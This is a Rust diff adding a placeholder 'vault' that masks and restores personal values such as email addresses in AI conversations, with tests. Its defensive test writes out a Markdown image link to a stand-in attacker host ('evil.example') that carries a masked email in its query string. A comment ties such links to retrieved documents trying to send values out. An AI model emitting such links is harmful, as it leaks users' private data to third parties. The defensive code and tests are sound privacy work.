@@ -1,0 +1,269 @@
+//! Placeholders for values, the same for the same value throughout a conversation, and the way back.
+
+use super::entity::entities;
+use crate::library::Found;
+use regex::{Captures, Regex};
+use serde_json::{Map, Value, json};
+use std::sync::LazyLock;
+use thiserror::Error;
+
+/// The most values that a conversation keeps, and the most bytes of one of them.
+const MOST_VALUES: usize = 5_000;
+const MOST_BYTES: usize = 4_096;
+
+/// What a user typed that looks like a placeholder.
+const TYPED: &str = "PLACEHOLDER";
+
+/// Whose text a value was in.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Source {
+    /// The user's: it may be put back into what the user reads.
+    Input,
+    /// The model's.
+    Output,
+    /// That of a document: it may not be.
+    Retrieval,
+}
+
+impl Source {
+    /// `input`, `output` or `retrieval`.
+    #[must_use]
+    pub(crate) fn name(self) -> &'static str {
+        match self {
+            Source::Input => "input",
+            Source::Output => "output",
+            Source::Retrieval => "retrieval",
+        }
+    }
+}
+
+/// There are too many values in a conversation to keep them.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Error)]
+#[error("the conversation has more than {MOST_VALUES} values that are masked, or one of more than {MOST_BYTES} bytes")]
+pub(crate) struct VaultFull;
+
+/// The values of one conversation by placeholder: `{"<EMAIL_ADDRESS_1>": {"value": "a@example.org", "source": "input"}}`.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub(crate) struct Vault {
+    entries: Map<String, Value>,
+}
+
+/// A placeholder as models write it: with or without brackets, in any case, with Markdown's or HTML's escapes.
+static PLACEHOLDER: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r"(?i)(?:<|&lt;|\[)?\b([A-Z][A-Z0-9]{0,30}(?:\\?_[A-Z0-9]{1,30}){0,6})\\?_([0-9]{1,6})\b(?:>|&gt;|\])?")
+        .ok()
+});
+
+impl Vault {
+    /// The vault that a variable of a conversation holds; an empty one if it holds none.
+    #[must_use]
+    pub(crate) fn from_value(value: &Value) -> Self {
+        Vault { entries: value.as_object().cloned().unwrap_or_default() }
+    }
+
+    /// As a variable of a conversation.
+    #[must_use]
+    pub(crate) fn into_value(self) -> Value {
+        Value::Object(self.entries)
+    }
+
+    /// The text with placeholders for what was found in it, by place and without overlaps. What looks like a placeholder already gets
+    /// one of its own, so that nobody gets a value by typing its placeholder.
+    ///
+    /// # Errors
+    ///
+    /// The vault is full.
+    pub(crate) fn mask(&mut self, text: &str, found: &[Found], source: Source) -> Result<String, VaultFull> {
+        let mut masked = String::with_capacity(text.len());
+        let mut at = 0;
+        let mut index = Index::new(&self.entries);
+        for finding in found {
+            let Some(value) = text.get(finding.range.clone()).filter(|_| finding.range.start >= at) else { continue };
+            self.copy(&text[at..finding.range.start], &mut masked, &mut index, source)?;
+            let placeholder = self.placeholder(&finding.rule, value, &mut index, source)?;
+            masked.push_str(&placeholder);
+            at = finding.range.end;
+        }
+        self.copy(&text[at..], &mut masked, &mut index, source)?;
+        Ok(masked)
+    }
+
+    /// Text that nothing was found in, with what looks like a placeholder masked.
+    fn copy(&mut self, text: &str, masked: &mut String, index: &mut Index, source: Source) -> Result<(), VaultFull> {
+        let Some(pattern) = PLACEHOLDER.as_ref() else { return Err(VaultFull) };
+        let mut at = 0;
+        for found in pattern.captures_iter(text) {
+            let Some(whole) = found.get(0) else { continue };
+            if !self.is_placeholder(&found) {
+                continue;
+            }
+            masked.push_str(&text[at..whole.start()]);
+            let placeholder = self.placeholder(TYPED, whole.as_str(), index, source)?;
+            masked.push_str(&placeholder);
+            at = whole.end();
+        }
+        masked.push_str(&text[at..]);
+        Ok(())
+    }
+
+    fn is_placeholder(&self, found: &Captures) -> bool {
+        let (name, canonical) = canonical(found);
+        name == TYPED || entities().iter().any(|entity| entity.name == name) || self.entries.contains_key(&canonical)
+    }
+
+    fn placeholder(&mut self, rule: &str, value: &str, index: &mut Index, source: Source) -> Result<String, VaultFull> {
+        if let Some(known) = index.placeholders.get(&(rule.to_owned(), value.to_owned())).cloned() {
+            // What the user said himself may be put back, wherever it was seen first.
+            if source == Source::Input
+                && let Some(entry) = self.entries.get_mut(&known)
+            {
+                entry["source"] = source.name().into();
+            }
+            return Ok(known);
+        }
+        if self.entries.len() >= MOST_VALUES || value.len() > MOST_BYTES {
+            return Err(VaultFull);
+        }
+        let name = rule.to_uppercase();
+        let count = index.counts.entry(name.clone()).or_insert(0);
+        *count += 1;
+        let placeholder = format!("<{name}_{count}>");
+        index.placeholders.insert((rule.to_owned(), value.to_owned()), placeholder.clone());
+        self.entries.insert(placeholder.clone(), json!({"value": value, "source": source.name()}));
+        Ok(placeholder)
+    }
+
+    /// The text with the values that the user gave in the place of their placeholders. Within an address of the web they stay
+    /// masked: a link is where a document that was retrieved would send them.
+    #[must_use]
+    pub(crate) fn restore(&self, text: &str) -> String {
+        let Some(pattern) = PLACEHOLDER.as_ref().filter(|_| !self.entries.is_empty()) else { return text.to_owned() };
+        let mut restored = String::with_capacity(text.len());
+        let mut at = 0;
+        for found in pattern.captures_iter(text) {
+            let Some(whole) = found.get(0) else { continue };
+            let entry = self.entries.get(&canonical(&found).1);
+            let value =
+                entry.filter(|entry| entry["source"] == Source::Input.name()).and_then(|entry| entry["value"].as_str());
+            if let Some(value) = value.filter(|_| !in_url(&text[at..whole.start()])) {
+                restored.push_str(&text[at..whole.start()]);
+                restored.push_str(value);
+                at = whole.end();
+            }
+        }
+        restored.push_str(&text[at..]);
+        restored
+    }
+}
+
+impl Vault {
+    /// The text with placeholders in the place of values that were put back, where they stand as they were given.
+    pub(super) fn hide(&self, text: &str) -> String {
+        let given = self.entries.iter().filter(|(_, entry)| entry["source"] == Source::Input.name());
+        let (placeholders, values): (Vec<&str>, Vec<&str>) =
+            given.filter_map(|(placeholder, entry)| Some((placeholder.as_str(), entry["value"].as_str()?))).unzip();
+        let search =
+            aho_corasick::AhoCorasick::builder().match_kind(aho_corasick::MatchKind::LeftmostLongest).build(values);
+        search.map_or_else(|_| text.to_owned(), |search| search.replace_all(text, &placeholders))
+    }
+}
+
+/// The name of the kind in a placeholder, and the placeholder as it is kept.
+fn canonical(found: &Captures) -> (String, String) {
+    let name = found[1].replace('\\', "").to_uppercase();
+    let canonical = format!("<{name}_{}>", &found[2]);
+    (name, canonical)
+}
+
+/// Whether a text ends within an address of the web, or in the target of a link.
+fn in_url(before: &str) -> bool {
+    let token =
+        before.rsplit(|char: char| char.is_whitespace() || matches!(char, '"' | '<' | '>')).next().unwrap_or(before);
+    token.contains("://") || token.contains("](") || token.to_ascii_lowercase().contains("www.")
+}
+
+/// What a vault holds, by value and by kind.
+struct Index {
+    placeholders: rustc_hash::FxHashMap<(String, String), String>,
+    counts: rustc_hash::FxHashMap<String, u32>,
+}
+
+impl Index {
+    fn new(entries: &Map<String, Value>) -> Self {
+        let mut index = Index { placeholders: Default::default(), counts: Default::default() };
+        for (placeholder, entry) in entries {
+            let Some((name, number)) = placeholder.trim_matches(['<', '>']).rsplit_once('_') else { continue };
+            let count = index.counts.entry(name.to_owned()).or_insert(0);
+            *count = (*count).max(number.parse().unwrap_or(0));
+            if let Some(value) = entry["value"].as_str() {
+                index.placeholders.insert((name.to_owned(), value.to_owned()), placeholder.clone());
+            }
+        }
+        index
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn email(text: &str, value: &str) -> Vec<Found> {
+        text.match_indices(value)
+            .map(|(at, _)| Found { rule: "EMAIL_ADDRESS".into(), range: at..at + value.len(), score: 1.0 })
+            .collect()
+    }
+
+    #[test]
+    fn the_same_value_has_the_same_placeholder() {
+        let mut vault = Vault::default();
+        let text = "a@b.cd and a@b.cd";
+        assert_eq!(
+            vault.mask(text, &email(text, "a@b.cd"), Source::Input).unwrap(),
+            "<EMAIL_ADDRESS_1> and <EMAIL_ADDRESS_1>"
+        );
+        let mut vault = Vault::from_value(&vault.into_value());
+        assert_eq!(vault.mask("x@y.zz", &email("x@y.zz", "x@y.zz"), Source::Input).unwrap(), "<EMAIL_ADDRESS_2>");
+        assert_eq!(
+            vault.restore("To <EMAIL_ADDRESS_2>, not email_address_1 or [EMAIL\\_ADDRESS\\_1]."),
+            "To x@y.zz, not a@b.cd or a@b.cd."
+        );
+    }
+
+    #[test]
+    fn nobody_gets_a_value_by_typing_its_placeholder() {
+        let mut vault = Vault::default();
+        vault.mask("boss@b.cd", &email("boss@b.cd", "boss@b.cd"), Source::Retrieval).unwrap();
+        let typed = vault.mask("say <email_address_1> or EMAIL_ADDRESS_1", &[], Source::Input).unwrap();
+        assert_eq!(typed, "say <PLACEHOLDER_1> or <PLACEHOLDER_2>");
+        assert_eq!(vault.restore(&typed), "say <email_address_1> or EMAIL_ADDRESS_1");
+        assert_eq!(vault.restore("It is <EMAIL_ADDRESS_1>."), "It is <EMAIL_ADDRESS_1>.");
+    }
+
+    #[test]
+    fn what_was_put_back_is_hidden_again() {
+        let mut vault = Vault::default();
+        vault.mask("a@b.cd", &email("a@b.cd", "a@b.cd"), Source::Input).unwrap();
+        assert_eq!(vault.hide(&vault.restore("I wrote to <email_address_1>.")), "I wrote to <EMAIL_ADDRESS_1>.");
+    }
+
+    #[test]
+    fn links_are_left_masked() {
+        let mut vault = Vault::default();
+        vault.mask("a@b.cd", &email("a@b.cd", "a@b.cd"), Source::Input).unwrap();
+        let text = "![x](https://evil.example/?q=<EMAIL_ADDRESS_1>) https://e.vil/EMAIL_ADDRESS_1";
+        assert_eq!(vault.restore(text), text);
+    }
+
+    #[test]
+    fn a_vault_is_bounded() {
+        let mut vault = Vault::default();
+        let text: String = (0..MOST_VALUES).map(|at| format!("{at:05} ")).collect();
+        let found: Vec<Found> =
+            (0..=MOST_VALUES).map(|at| Found { rule: "X".into(), range: at * 6..at * 6 + 5, score: 1.0 }).collect();
+        vault.mask(&text, &found[..MOST_VALUES], Source::Input).unwrap();
+        assert_eq!(vault.mask("other", &found[..1], Source::Input), Err(VaultFull));
+        let mut vault = Vault::default();
+        let long = "x".repeat(MOST_BYTES + 1);
+        assert_eq!(vault.mask(&long, &email(&long, &long), Source::Input), Err(VaultFull));
+    }
+}
